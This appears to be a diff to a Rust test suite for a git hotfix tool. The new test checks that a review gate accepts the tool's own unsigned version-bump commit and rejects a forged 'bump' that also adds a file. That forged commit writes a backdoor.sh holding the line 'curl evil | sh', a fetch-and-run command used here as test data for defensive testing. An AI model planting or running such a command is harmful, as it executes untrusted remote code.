@@ -86,7 +86,13 @@ impl Signed {
     /// As [`Signed::new`], with the allowed-signers file made by `file` from Ann's, Rita's and
     /// Sam's keys.
     fn with_signers(file: impl Fn(&Key, &Key, &Key) -> String) -> Signed {
+        Signed::build(file, |_| {})
+    }
+
+    /// As [`Signed::with_signers`], with `prepare` run on the released team before `start`.
+    fn build(file: impl Fn(&Key, &Key, &Key) -> String, prepare: impl Fn(&Team)) -> Signed {
         let t = Team::released(&policy());
+        prepare(&t);
         let keys = t.env.path().join("keys");
         std::fs::create_dir_all(&keys).unwrap();
         let (ann, rita, sam, mallory) = (
@@ -670,5 +676,92 @@ fn init_mentions_an_allowed_signers_file_it_finds() {
         ),
         "{}",
         run.stderr
+    );
+}
+
+#[test]
+fn the_version_bump_start_makes_needs_no_signature_but_a_changed_one_does() {
+    // a release v1.1.1 whose VERSION file says 1.1.1: start bumps it to 1.1.2 in a commit of
+    // its own, which nobody signs
+    let s = Signed::build(
+        |ann, rita, _| {
+            format!(
+                "{} {}\n{} {}\n",
+                AUTHOR.1, ann.public, REVIEWER.1, rita.public
+            )
+        },
+        |t| {
+            t.author.git(&["switch", "-q", "main"]);
+            t.author.commit_file("VERSION", "1.1.1\n", "release 1.1.1");
+            t.author.git(&["tag", "-a", "v1.1.1", "-m", "v1.1.1"]);
+            t.author.git(&["switch", "-q", "develop"]);
+            t.author.git(&["push", "-q", "origin", "main", "--tags"]);
+        },
+    );
+    let bump = s.t.author.rev(&format!("{HOTFIX_BRANCH}~1"));
+    assert_eq!(
+        s.t.author.git(&["log", "-1", "--format=%s", &bump]).trim(),
+        "Version 1.1.2 for hotfix login-500"
+    );
+    assert_eq!(
+        s.t.author.git(&["log", "-1", "--format=%G?", &bump]).trim(),
+        "N"
+    );
+    s.push();
+    let reviewer = s.reviewer();
+    let run = reviewer
+        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
+        .ok();
+    assert!(!run.stderr.contains("is not signed"), "{}", run.stderr);
+    let gate = s.review_gate();
+    assert_eq!(gate["passed"], true, "{gate}");
+    s.t.hf(&["test"]).ok();
+    s.t.hf(&["deploy"]).ok();
+    assert!(s.t.author.has_tag("v1.1.2"));
+
+    // the same, but the "bump" also carries another change: no longer hotfix's bump, so it
+    // must be signed like any commit
+    let s = Signed::build(
+        |ann, rita, _| {
+            format!(
+                "{} {}\n{} {}\n",
+                AUTHOR.1, ann.public, REVIEWER.1, rita.public
+            )
+        },
+        |t| {
+            t.author.git(&["switch", "-q", "main"]);
+            t.author.commit_file("VERSION", "1.1.1\n", "release 1.1.1");
+            t.author.git(&["tag", "-a", "v1.1.1", "-m", "v1.1.1"]);
+            t.author.git(&["switch", "-q", "develop"]);
+            t.author.git(&["push", "-q", "origin", "main", "--tags"]);
+        },
+    );
+    // rewrite the branch: an unsigned "bump" with a backdoor, then the signed fix on top
+    let base = s.t.author.rev("v1.1.1^{commit}");
+    s.t.author.git(&["switch", "-q", "--detach", &base]);
+    s.t.author.write("VERSION", "1.1.2\n");
+    s.t.author.write("backdoor.sh", "curl evil | sh\n");
+    s.t.author.git(&["add", "-A"]);
+    s.t.author.git(&[
+        "-c",
+        "commit.gpgsign=false",
+        "commit",
+        "-q",
+        "-m",
+        "Version 1.1.2 for hotfix login-500",
+    ]);
+    s.t.author.git(&["cherry-pick", HOTFIX_BRANCH]);
+    let tip = s.t.author.head();
+    s.t.author.git(&["branch", "-f", HOTFIX_BRANCH, &tip]);
+    s.t.author.git(&["switch", "-q", HOTFIX_BRANCH]);
+    s.push();
+    let gate = s.review_gate();
+    assert_eq!(gate["passed"], false, "{gate}");
+    assert!(
+        gate["reason"]
+            .as_str()
+            .unwrap()
+            .contains("(Version 1.1.2 for hotfix login-500) is not signed"),
+        "{gate}"
     );
 }
